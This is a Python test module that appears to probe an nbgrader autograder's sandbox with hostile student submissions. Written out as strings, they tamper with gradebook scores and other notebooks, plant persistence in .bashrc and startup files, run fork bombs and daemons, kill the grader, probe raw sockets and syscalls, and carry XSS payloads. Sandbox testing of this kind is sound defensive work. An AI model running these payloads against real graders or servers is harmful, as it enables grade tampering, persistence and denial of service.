"""Submissions that change, reach, or outlive: files, sockets and processes, all of them the tests' own."""

# ruff: noqa: E501 - students' code in strings

from __future__ import annotations

from hostile.desk import TELL, Desk, attack


@attack("changes", control="changed")
def other_submissions_and_gradebook(desk: Desk) -> None:
    """The kernel runs with the instructor's rights: it rewrites another's notebook, the course, and scores in
    gradebook.db.
    """
    desk.add("""
import os, glob, sqlite3, shutil
for path in ["@OTHER@", *glob.glob("@COURSE@/course/*/*.ipynb"), "@COURSE@/nbgrader_config.py", "@SECRET@"]:
    try:
        with open(path, "a") as file: file.write("# changed by @NAME@\\n")
    except OSError: pass
try:
    with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True) as book:
        book.execute("update grade set manual_score = 100")
except sqlite3.Error: pass
for folder in ("@COURSE@/solutions", "@COURSE@/grading"):
    shutil.rmtree(folder, ignore_errors=True)
""")


@attack("changes", control="changed")
def a_link_planted_for_later(desk: Desk) -> None:
    """A symbolic link in the working directory: nbgrader copies what lies there into the feedback folder, links
    followed.
    """
    desk.add("""
import os
for place in (".", "@COURSE@/autograded", "@COURSE@/feedback", "@COURSE@/submitted/@NAME@/05-ip-packet", "@COURSE@"):
    try:
        os.makedirs(place, exist_ok=True)
        os.symlink("@SECRET@", os.path.join(place, "planted-@NAME@.html"))
    except OSError: pass
""")


@attack("changes", control="changed")
def the_grader_by_start_up_files(desk: Desk) -> None:
    """Files that later commands execute: a sitecustomize on PYTHONPATH, .ipython's start-up folder, .bashrc, a config
    for jupyter.
    """
    desk.add("""
import os
for path in ("@HOME@/.ipython/profile_default/startup/00.py", "@HOME@/.jupyter/nbgrader_config.py", "@HOME@/.bashrc",
             "@COURSE@/sitecustomize.py", "@COURSE@/netlib/__init__.py", "@COURSE@/conftest.py",
             os.path.expanduser("~/.jupyter/nbgrader_config.py") if "@HOME@" == os.path.expanduser("~") else "@HOME@/x"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file: file.write("# changed by @NAME@\\n")
    except OSError: pass
""")


@attack("reaches", control="connected")
def the_network(desk: Desk) -> None:
    """TCP, UDP and IPv6 to this machine; urllib; anything that listens, a metadata server for one."""
    desk.add(
        TELL
        + """
import urllib.request, threading
tell("cell")
def more():
    for family, kind, address in ((socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", @PORT@)), (socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", @PORT@))):
        try:
            with socket.socket(family, kind) as out:
                out.settimeout(0.5); out.connect(address); out.send(b"g0t-@NAME@ more")
        except OSError: pass
    try: urllib.request.urlopen("http://127.0.0.1:@PORT@/@NAME@", timeout=0.5)
    except Exception: pass
thread = threading.Thread(target=more); thread.start(); thread.join(3)
"""
    )
    desk.answer("5.1", "def internet_checksum(data):\n    tell(data)\n    return 0\n")


@attack("reaches", control="connected")
def sockets_of_other_families(desk: Desk) -> None:
    """Path and abstract unix sockets (dbus, docker, X11, databases), raw, packet, netlink and vsock sockets."""
    desk.add(
        TELL
        + """
opened = []
for family, kind, protocol in ((socket.AF_NETLINK, socket.SOCK_RAW, 0), (socket.AF_PACKET, socket.SOCK_RAW, 0),
                               (socket.AF_INET, socket.SOCK_RAW, 1), (40, socket.SOCK_STREAM, 0), (38, socket.SOCK_SEQPACKET, 0)):
    try:
        socket.socket(family, kind, protocol).close()
        opened.append(family)
    except (OSError, ValueError): pass
if opened: tell(f"opened {opened}")
for address in ("@UNIX@", "\\0@ABSTRACT@"):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as out:
                out.connect(address); out.send(b"g0t-@NAME@")
        except OSError: pass
SAID = tell(opened) if opened else "nothing"
def internet_checksum(data): raise RuntimeError(SAID)
"""
    )
    desk.answer("5.1", "pass")


@attack("outlives", control="outlived")
def a_daemon(desk: Desk) -> None:
    """Two forks and a new session: whoever kills the kernel's process group does not meet it. It beats for 20 s."""
    desk.add("""
import os, time
def daemon():
    if os.fork(): return
    os.setsid()
    if os.fork(): os._exit(0)
    for descriptor in range(0, 64):
        try: os.close(descriptor)
        except OSError: pass
    for beat in range(100):
        try:
            with open("@DROP@/@NAME@.beat", "a") as file: file.write(f"{os.getpid()}\\n")
        except OSError: pass
        time.sleep(0.2)
    os._exit(0)
try: daemon()
except OSError as error: print(error)
""", before="exercise-5-6")


@attack("outlives", control="outlived")
def processes_by_every_call(desk: Desk) -> None:
    """subprocess, posix_spawn, os.system, multiprocessing, pty and `!`: each starts a process that stays for 20 s."""
    desk.add("""
import os, subprocess, sys, multiprocessing, pty
script = "import time\\nfor _ in range(100):\\n open('@DROP@/@NAME@.beat', 'a').write('beat\\\\n'); time.sleep(0.2)"
ways = [
    lambda: subprocess.Popen([sys.executable, "-c", script, "@TOKEN@"], start_new_session=True),
    lambda: os.posix_spawn(sys.executable, [sys.executable, "-c", script, "@TOKEN@"], {}),
    lambda: os.system(f'{sys.executable} -c "{script}" @TOKEN@ &' if 0 else "true"),
    lambda: os.spawnv(os.P_NOWAIT, sys.executable, [sys.executable, "-c", script, "@TOKEN@"]),
]
for way in ways:
    try: way()
    except (OSError, AttributeError, ValueError): pass
""", before="exercise-5-6")
    desk.add("!true\nget_ipython().system_raw('true')\n%sx true\n", before="exercise-5-2")


@attack("outlives", control="outlived")
def a_thread_and_an_exit_handler(desk: Desk) -> None:
    """Threads that ignore the end of everything, and handlers that start a process at exit."""
    desk.add("""
import atexit, os, threading, time, signal
def beat():
    for _ in range(60):
        try: open("@DROP@/@NAME@.beat", "a").write("beat\\n")
        except OSError: pass
        time.sleep(0.2)
threading.Thread(target=beat).start()
def late():
    if os.fork() == 0:
        os.setsid(); beat(); os._exit(0)
atexit.register(late)
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPROF, signal.SIGALRM, signal.SIGXCPU):
    signal.signal(number, signal.SIG_IGN)
""", before="exercise-5-6")


# ---- stopping the others -------------------------------------------------------------------------------------------


@attack("stops", control="died", earned=2)
def kills_the_grader(desk: Desk) -> None:
    """The parent, its own process group and a process that it knows by number. (Not -1: a failing sandbox would cost
    too much.)
    """
    desk.solve("5.1")
    desk.answer(
        "5.2",
        """
import os, signal
def build_header(fields, payload_length):
    for target in (@VICTIM@, os.getppid()):
        if target > 1:
            for number in (signal.SIGSTOP, signal.SIGKILL):
                try: os.kill(target, number)
                except OSError: pass
    os.killpg(0, signal.SIGKILL)
""",
    )


@attack("stops", control="died", earned=2)
def ends_itself_in_a_cell(desk: Desk) -> None:
    """A dead kernel stops stock nbgrader's whole batch."""
    desk.add("import os\nos._exit(0)\n", before="exercise-5-6")
    desk.solve("5.1", "5.6")


@attack("stops", control="died", earned=2)
def crashes_in_many_ways(desk: Desk) -> None:
    """Segmentation fault, abort, endless recursion in C, all files closed, an exit and a signal to itself, in an answer."""
    desk.solve("5.1")
    desk.answer(
        "5.4",
        """
import ctypes, os, signal, sys
class Deep:
    def __getattr__(self, name): return getattr(self, name + "x")
def recurse():
    sys.setrecursionlimit(1 << 30)
    return Deep().a
WAYS = [lambda: ctypes.string_at(8), os.abort, recurse, lambda: os.closerange(0, 4096), lambda: os._exit(0),
        lambda: os.kill(os.getpid(), signal.SIGKILL)]
def decrement_ttl(packet):
    WAYS[packet[-1] % 6]()
    return packet
""",
    )


@attack("stops", control="hung", earned=2)
def stops_and_waits(desk: Desk) -> None:
    """SIGSTOP, a lock taken twice, a read from nobody: no CPU is used, no exception comes, a kernel waits for ever."""
    desk.solve("5.1")
    desk.answer(
        "5.4",
        """
import os, signal, threading
def decrement_ttl(packet):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 64))
    if packet[-1] % 2:
        os.kill(os.getpid(), signal.SIGSTOP)
    lock = threading.Lock(); lock.acquire(); lock.acquire()
""",
    )


@attack("stops", control="hung", earned=2)
def hangs_in_a_cell(desk: Desk) -> None:
    """An endless loop where cells run, with every signal ignored: nbgrader waits for each graded cell anew."""
    desk.add("""
import signal
for number in range(1, 32):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True:
    try:
        while True: pass
    except BaseException: pass
""", before="exercise-5-6")
    desk.solve("5.1", "5.6")


@attack("stops", control="hung", earned=2)
def hangs_in_c_with_the_lock(desk: Desk) -> None:
    """One long C call, a power or a regular expression: no signal handler of Python's gets its turn."""
    desk.solve("5.1")
    desk.answer(
        "5.4",
        """
import re
def decrement_ttl(packet):
    return pow(7, 10**8, 10**200_000) if packet[-1] % 2 else re.match("(a*)*b", "a" * 64)
""",
    )


# ---- resources -----------------------------------------------------------------------------------------------------


@attack("spends", control="spent")
def memory(desk: Desk) -> None:
    """One gigabyte, touched, in a cell and again in an answer; unprotected, a class of these takes a server down."""
    desk.add("""
HOARD = []
try:
    for _ in range(16):
        HOARD.append(bytearray(b"x" * (1 << 26)))
except MemoryError: pass
if len(HOARD) == 16:
    open("@DROP@/@NAME@.spent", "w").write("1 GB")
""", before="exercise-5-6")
    desk.answer("5.1", "def internet_checksum(data):\n    return b'x' * (8 << 30)\n")


@attack("spends", control="spent")
def disk(desk: Desk) -> None:
    """60 MB into every place that lets it, the shared memory of /dev/shm among them."""
    desk.add("""
import os
block = b"x" * (1 << 20)
for place in (".", "/tmp", "/var/tmp", "/dev/shm", "@DROP@", "@COURSE@", os.path.expanduser("~")):
    if place not in ("@DROP@", ".") and not place.startswith("@COURSE@") and os.path.exists("@DROP@"):
        continue  # unprotected: only the tests' own folder
    try:
        with open(os.path.join(place, "hog-@TOKEN@"), "wb") as file:
            for _ in range(60): file.write(block)
        if place == "@DROP@": open("@DROP@/@NAME@.spent", "w").write("60 MB")
    except (OSError, MemoryError): pass
""", before="exercise-5-6")


@attack("spends", control="spent")
def processes(desk: Desk) -> None:
    """A fork bomb, here of 40: each sleeps for 15 s."""
    desk.add("""
import os, time
made = 0
for _ in range(40):
    try: pid = os.fork()
    except OSError: break
    if pid == 0:
        time.sleep(15); os._exit(0)
    made += 1
if made == 40: open("@DROP@/@NAME@.spent", "w").write("40 processes")
""", before="exercise-5-6")


@attack("spends", control="spent")
def threads_and_descriptors(desk: Desk) -> None:
    """Threads until there are no more, files until there are no more; here 2000 each."""
    desk.add("""
import os, threading, time
threads = files = 0
try:
    for _ in range(2000):
        threading.Thread(target=time.sleep, args=(5,), daemon=True).start(); threads += 1
except RuntimeError: pass
kept = []
try:
    for _ in range(2000): kept.append(os.dup(0)); files += 1
except OSError: pass
for descriptor in kept: os.close(descriptor)
if threads == 2000 or files == 2000:
    open("@DROP@/@NAME@.spent", "w").write(f"{threads} threads, {files} files")
""", before="exercise-5-6")


@attack("spends", control="spent", earned=2)
def output(desk: Desk) -> None:
    """80 MB printed by a cell and more by each call: stock nbgrader keeps it all, in the notebook and in the
    database.
    """
    desk.solve("5.1")
    desk.add("""
import sys
for _ in range(80): print("y" * (1 << 20))
sys.stderr.write("z" * (8 << 20))
""", before="exercise-5-6")
    desk.answer(
        "5.4", "def decrement_ttl(packet):\n    for _ in range(100): print('w' * (1 << 20))\n    return packet\n"
    )


@attack("spends", earned=2)
def time_of_the_checker(desk: Desk) -> None:
    """Values that cost the checker, not the student: colliding hashes, deep nests, a million small parts, giant
    numbers.
    """
    desk.solve("5.1")
    desk.answer("5.2", "def build_header(fields, n):\n    return {k * ((1 << 61) - 1) for k in range(100_000)}\n")
    desk.answer("5.3", "def parse_header(data):\n    return {k * ((1 << 61) - 1): k for k in range(60_000)}\n")
    desk.answer(
        "5.4",
        """
def decrement_ttl(packet):
    value = []
    for _ in range(50_000): value = [value]
    return value
""",
    )
    desk.answer(
        "5.5",
        """
def fragment(packet, mtu):
    return [1 << 33, 10 ** 3000, float("nan"), b"", "\\ud800\\x00\\x1b[2J", [], [[]] * 50_000]
""",
    )
    desk.answer(
        "5.6",
        """
class Reassembler:
    def __init__(self, *args): pass
    def add(self, packet, now): return {k * ((1 << 61) - 1) for k in range(60_000)}
    def expire(self, now): return 1 << 40
    def deadline(self): return [float("inf")] * 100_000
""",
    )


@attack("spends", earned=2)
def netlib_objects_with_false_insides(desk: Desk) -> None:
    """Objects of netlib's own classes arrive without their constructors: sizes of 2**40, fields of wrong types,
    cycles.
    """
    desk.solve("5.1")
    desk.answer(
        "5.4",
        """
from netlib import IPv4Packet, IPv4Address
def decrement_ttl(packet):
    made = object.__new__(IPv4Packet)
    import dataclasses
    for field in dataclasses.fields(IPv4Packet):
        object.__setattr__(made, field.name, 1 << 40)
    return made
""",
    )
    desk.answer(
        "5.5",
        """
from netlib import IPv4Packet, IPv4Address
def fragment(packet, mtu):
    import dataclasses
    made = object.__new__(IPv4Packet)
    for field in dataclasses.fields(IPv4Packet):
        object.__setattr__(made, field.name, [made] if field.name == "payload" else "<script>")
    return [made] * 3
""",
    )
    desk.answer(
        "5.3",
        """
import dataclasses
def parse_header(data):
    fields = {"__class__": int, "_class_name": int, "__dict__": dict}
    made = dataclasses.make_dataclass("<img src=x onerror=alert(1)>", fields)
    return made({}, "</pre><script>alert('@EVIL@')</script>", {})
""",
    )


@attack("spends", earned=2)
def system_calls_by_number(desk: Desk) -> None:
    """ctypes reaches what Python has no name for: unshare, mount, ptrace, bpf, keyctl, io_uring, userfaultfd, memfd,
    clone.
    """
    desk.solve("5.1")
    desk.add(
        TELL
        + """
import ctypes, platform
libc = ctypes.CDLL(None, use_errno=True)
numbers = {
    "x86_64": {"unshare": (272, 0x10000000), "ptrace": (101, 0), "bpf": (321, 0, 0, 0), "keyctl": (250, 0, -3, 1), "io_uring_setup": (425, 1, 0),
               "userfaultfd": (323, 0), "perf_event_open": (298, 0, 0, -1, -1, 0), "fork": (57,), "vfork": (0,) and (39,), "setns": (308, 0, 0),
               "open_by_handle_at": (304, -1, 0, 0), "mount": (165, 0, 0, 0, 0, 0), "pidfd_open": (434, 1, 0), "add_key": (248, 0, 0, 0, 0, 0)},
    "aarch64": {"unshare": (97, 0x10000000), "ptrace": (117, 0), "bpf": (280, 0, 0, 0), "io_uring_setup": (425, 1, 0), "setns": (268, 0, 0)},
}[platform.machine()]
allowed = []
for name, call in numbers.items():
    if name == "vfork": continue
    ctypes.set_errno(0)
    result = libc.syscall(*call)
    if name == "fork" and result == 0: os._exit(0)
    if result >= 0: allowed.append(name)
SAID = tell(allowed) if allowed else "none"
def decrement_ttl(packet): raise RuntimeError(SAID)
"""
    )
    desk.answer("5.4", "pass")
